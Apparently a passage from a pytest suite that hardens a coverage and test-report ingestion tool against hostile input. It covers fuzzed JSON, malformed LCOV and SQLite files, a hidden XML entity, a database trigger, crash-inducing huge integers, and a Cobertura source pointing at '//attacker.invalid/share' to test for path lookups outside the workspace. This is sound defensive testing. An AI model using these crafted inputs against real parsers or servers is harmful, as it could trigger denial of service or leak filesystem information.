        "one-huge-string": (json.dumps("x" * 3_000_000).encode(), "unknown format"),
    }


def _records_of(path: Path) -> str:
    from dataclasses import asdict

    return repr([asdict(r) for r in read_report(path)[2]])


@pytest.mark.parametrize("seed", sorted(JSON_SEEDS))
def test_json_attack_matrix(tmp_path, seed):
    source = FIXTURES / JSON_SEEDS[seed]
    assert read_report(source)[0].name == seed
    plain = _records_of(source)
    unexpected = {}
    for case, (data, want) in _json_cases(source.read_text()).items():
        path = _write(tmp_path / f"{case}-{source.name}", data)
        try:
            found = _records_of(path)
        except FormatError as exc:
            assert exc.path == str(path)
            if want == "same" or (want is not None and want not in exc.reason):
                unexpected[case] = exc.reason
            continue
        if want not in ("same", None) or (want == "same" and found != plain):
            unexpected[case] = f"read: {found[:300]}"
    assert unexpected == {}


@pytest.mark.parametrize("seed", sorted(JSON_SEEDS))
def test_json_values_of_every_other_type_are_read_or_refused(tmp_path, seed):
    """Each value (the first 60 in document order) replaced by one of every other JSON type:
    the report is read with sane values, or refused by name; nothing else is raised."""
    from crossbridge_assets.formats import open_report
    from crossbridge_assets_tests.fuzz_readers import check_sane

    value = json.loads((FIXTURES / JSON_SEEDS[seed]).read_text())
    paths = []

    def walk(v, at):
        items = v.items() if isinstance(v, dict) else enumerate(v[:2]) if isinstance(v, list) else ()
        for key, child in items:
            paths.append((*at, key))
            walk(child, (*at, key))

    walk(value, ())
    path = tmp_path / Path(JSON_SEEDS[seed]).name
    for at in paths[:60]:
        for other in ([], {}, None, "text", 7, -1, 1.5e300, True):
            changed = json.loads(json.dumps(value))
            parent = changed
            for key in at[:-1]:
                parent = parent[key]
            parent[at[-1]] = other
            path.write_text(json.dumps(changed))
            try:
                check_sane(open_report(path))
            except FormatError as exc:
                assert exc.path == str(path) and exc.reason, (at, other)


# ---------------------------------------------------------------------------- LCOV and .coverage junk


def _sqlite(path: Path, script: str) -> Path:
    db = sqlite3.connect(path)
    db.executescript(script)
    db.commit()
    db.close()
    return path


@pytest.mark.parametrize(
    "name, make, reason",
    [
        ("lcov.info", lambda p: _write(p, b"TN:\nSF:a.c\nDA:1,1\n" + bytes(range(256)) * 4 + b"\nend_of_record\n"),
         "line 4: not an LCOV record"),
        ("lcov.info", lambda p: _write(p, b"SF:a.c\nDA:1,1\x00\nend_of_record\n"), "line 2: malformed DA record"),
        ("lcov.info", lambda p: _write(p, b"TN:\nSF:a.c\nDA:1,nan\nend_of_record\n"), "line 3: malformed DA record"),
        ("lcov.info", lambda p: _write(p, b"TN:\nSF:" + b"a" * (2 << 20) + b"\nDA:1,1\nend_of_record\n"),
         "line 2: line too long for an LCOV record"),
        ("lcov.info", lambda p: _write(p, "TN:\nSF:a.c\nDA:1,1\nend_of_record\n".encode("utf-16")[:-1]),
         "the file is UTF-16 text that ends in the middle of a character"),
        ("lcov.info", lambda p: _write(p, "TN:\nSF:a.c\nDA:1,1\nend_of_record\n".encode("utf-16-le")),
         "the file is UTF-16 text without a byte order mark"),
        ("lcov.info", lambda p: _write(p, gzip.compress(b"TN:\nSF:a.c\nDA:1,1\nend_of_record\n")), "gzip-compressed"),
        (".coverage", lambda p: _write(p, bytes(range(256)) * 20), "unknown format"),
        (".coverage", lambda p: _write(p, b"SQLite format 3\x00" + bytes(range(256)) * 20), "unknown format"),
        # Another program's database that happens to name both: detection takes it for coverage.py's.
        (".coverage", lambda p: _sqlite(p, "CREATE TABLE notes (line_bits, coverage_schema);"),
         "not a readable coverage.py data file: no such table: line_bits"),
        (".coverage", lambda p: _sqlite(p, "CREATE TABLE coverage_schema (version integer); CREATE TABLE line_bits (x);"
                                           " INSERT INTO coverage_schema VALUES (7);"), "not a readable coverage.py data file"),
        (".coverage", lambda p: _alter(_coverage_data(p, {"/a.py": [1]}), "DROP TABLE file;"), "no such table: file"),
        (".coverage", lambda p: _alter(_coverage_data(p, {"/a.py": [1]}), "DROP TABLE meta;"), "no such table: meta"),
        (".coverage", lambda p: _alter(_coverage_data(p, {"/a.py": [1]}), "UPDATE coverage_schema SET version = 99;"),
         "(data schema 99)"),
        (".coverage", lambda p: _write(p, _coverage_data(p, {"/a.py": list(range(1, 500))}).read_bytes()[:8192]),
         "not a readable coverage.py data file"),
    ],
    ids=["lcov-binary", "lcov-nul", "lcov-nan", "lcov-long-line", "lcov-utf16", "lcov-utf16le-no-bom", "lcov-gzip", "binary", "sqlite-header-junk",
         "other-sqlite", "schema-only", "missing-file-table", "missing-meta-table", "schema-99", "truncated"],
)
def test_lcov_and_coverage_data_junk_is_refused_by_name(tmp_path, name, make, reason):
    path = make(tmp_path / name)
    _refused(path, reason)


# ---------------------------------------------------------------------------- no disk lookups outside


def _cobertura_with_sources(path: Path, *sources: str) -> Path:
    listed = "".join(f"<source>{s}</source>" for s in sources)
    return _write(path, (
        f'<?xml version="1.0" ?><coverage version="7.6"><sources>{listed}</sources><packages><package name="app">'
        '<classes><class name="calc.py" filename="app/calc.py"><lines><line number="1" hits="1"/></lines></class>'
        "</classes></package></packages></coverage>").encode())


def test_cobertura_looks_on_disk_only_inside_the_workspace(tmp_path, monkeypatch):
    """coverage.py names a file from its <source>; where several sources are, the reader finds
    on disk which one holds it, for a report read in the checkout it was written in. A report
    from elsewhere named any folder: the reader looked there, so what a report became told
    what exists on the server (and '//host/share' would be a network share on Windows)."""
    import os

    def checkout(root: Path) -> Path:
        (root / ".git").mkdir(parents=True)
        for source in ("src", "lib"):
            (root / source / "app").mkdir(parents=True)
        (root / "src" / "app" / "calc.py").write_text("x = 1\n")
        return root

    workspace, elsewhere = checkout(tmp_path / "work"), checkout(tmp_path / "elsewhere")
    monkeypatch.chdir(workspace)
    # Read in its own checkout, the disk still tells src from lib.
    here = _cobertura_with_sources(tmp_path / "here.xml", f"{workspace}/src", f"{workspace}/lib")
    assert [fc.path for fc in read_report(here)[2]] == ["src/app/calc.py"]

    looked: list[str] = []
    real_stat = os.stat

    def stat(path, *args, **kwargs):
        looked.append(os.fsdecode(path))
        return real_stat(path, *args, **kwargs)

    there = _cobertura_with_sources(tmp_path / "there.xml", f"{elsewhere}/src", f"{elsewhere}/lib",
                                    "//attacker.invalid/share")
    above = _cobertura_with_sources(tmp_path / "above.xml", "../elsewhere/src", "../elsewhere/lib")
    with monkeypatch.context() as patched:
        patched.setattr(os, "stat", stat)
        [fc] = read_report(there)[2]
        read_report(above)
    assert fc.path == "app/calc.py"  # as written: was 'src/app/calc.py', from the other checkout
    outside = [p for p in looked if p not in (str(there), str(above)) and not os.path.abspath(p).startswith(str(workspace))]
    assert outside == []


# ---------------------------------------------------------------------------- a batch goes on


def test_hostile_reports_in_a_batch_are_quarantined_and_the_rest_is_loaded(crossbridge_env, dagster_instance):
    """A batch of one good coverage report and two hostile ones: the hostile ones are each
    quarantined with their reason, the good one is loaded."""
    from sqlalchemy import select

    from crossbridge_assets.warehouse import schema
    from crossbridge_assets.warehouse.engine import make_engine
    from crossbridge_assets_tests.test_coverage_e2e import PY, drop_shard, ingest
    from crossbridge_assets_tests.test_ingest_e2e import drop

    s = crossbridge_env
    drop_shard(s, "q", PY / "coverage.xml", "coverage.xml", build="4")
    hidden = _HIDERS["pi-then-comment"]('<!ENTITY i "INTERNAL">')
    drop(s, "cobertura-coverage.xml", "q", text=_xml("cobertura", dt=hidden, ref="&i;"))
    data = _alter(_coverage_data(s.inbox / "q" / "unit.coverage", {"/src/app.py": [1, 2]}),
                  "CREATE TRIGGER t AFTER INSERT ON meta BEGIN SELECT 1; END;")
    os.utime(data, (time.time() - 60, time.time() - 60))  # settled, as drop() leaves a file
    _, results = ingest(dagster_instance)
    md = results[0].asset_materializations_for_node("coverage")[0].metadata
    # The XML is refused as it lands (detection reads its DOCTYPE), the data file when loaded.
    assert md["reports_loaded"].value == 1 and md["reports_quarantined"].value == 1, md
    assert "unit.coverage" in md["quarantined_files"].value
    with make_engine(s.warehouse_url).connect() as conn:
        rows = conn.execute(select(schema.reports.c.original_name, schema.reports.c.status, schema.reports.c.reason)).all()
    status = {name: (state, reason or "") for name, state, reason in rows}
    assert status["coverage.xml"][0] == "landed"
    assert status["cobertura-coverage.xml"][0] == "quarantined" and "declares the entity 'i'" in status["cobertura-coverage.xml"][1]
    assert status["unit.coverage"][0] == "quarantined" and "it holds the trigger 't'" in status["unit.coverage"][1]
    assert len(status) == 3


# ---------------------------------------------------------------------------- long JSON tokens


@pytest.mark.parametrize("seed", sorted(JSON_SEEDS))
def test_an_integer_of_thousands_of_digits_is_refused_not_a_crash(tmp_path, seed):
    """ijson's C parser converts an integer past 64 bits with int(); past Python's 4,300 digits
    it crashed the interpreter (a segmentation fault, taking the whole batch with it) while
    detection read the head. Read in a child process: a crash fails the test, not the run."""
    text = json.dumps(json.loads((FIXTURES / JSON_SEEDS[seed]).read_text()))
    number = re.search(r"(?<=: )-?[0-9][0-9.eE+-]*", text)
    path = _write(tmp_path / Path(JSON_SEEDS[seed]).name,
                  (text[: number.start()] + "1" + "0" * 5000 + text[number.end():]).encode())
    outcome = _in_child(str(path))
    assert outcome.get("error") == "FormatError" and outcome["path"] == str(path), outcome
    assert "integer overflow" in outcome["reason"] and "beyond 64-bit integers" in outcome["reason"], outcome


def _pytest_report_with(tmp_path: Path, longrepr: str) -> Path:
    """A pytest-json-report report whose first test's failure text is `longrepr`, raw JSON."""
    report = json.loads((FIXTURES / JSON_SEEDS["pytest-json-report"]).read_text())
    report["tests"][0]["outcome"] = "failed"
    report["tests"][0].setdefault("call", {}).update(outcome="failed", longrepr="\x00HERE\x00")
    before, after = json.dumps(report).split('"\\u0000HERE\\u0000"')
    path = tmp_path / "report.json"
    with open(path, "w") as fh:
        fh.write(before)
        fh.write(longrepr)
        fh.write(after)
    return path


def test_long_strings_and_numbers_are_read_in_linear_time(tmp_path):
    """ijson's parser lexed a token cut by a read from its start again at every read (64 KB):
    a 50 MB captured output took half a minute, 20 MB of digits a quarter of one."""
    line = "E   AssertionError: \\\"expected\\\" != \\\"actual\\\"\\n"
    path = _pytest_report_with(tmp_path, '"' + line * (50_000_000 // len(line)) + '"')
    started = time.perf_counter()
    [case] = [c for c in read_report(path)[2] if c.status == "failed"]
    assert time.perf_counter() - started < 8
    assert case.attempts[0].stack_trace.startswith('E   AssertionError: "expected" != "actual"\n')
    path = _pytest_report_with(tmp_path, "1" + "0" * 20_000_000)
    started = time.perf_counter()
    _refused(path, "integer overflow")
    assert time.perf_counter() - started < 8
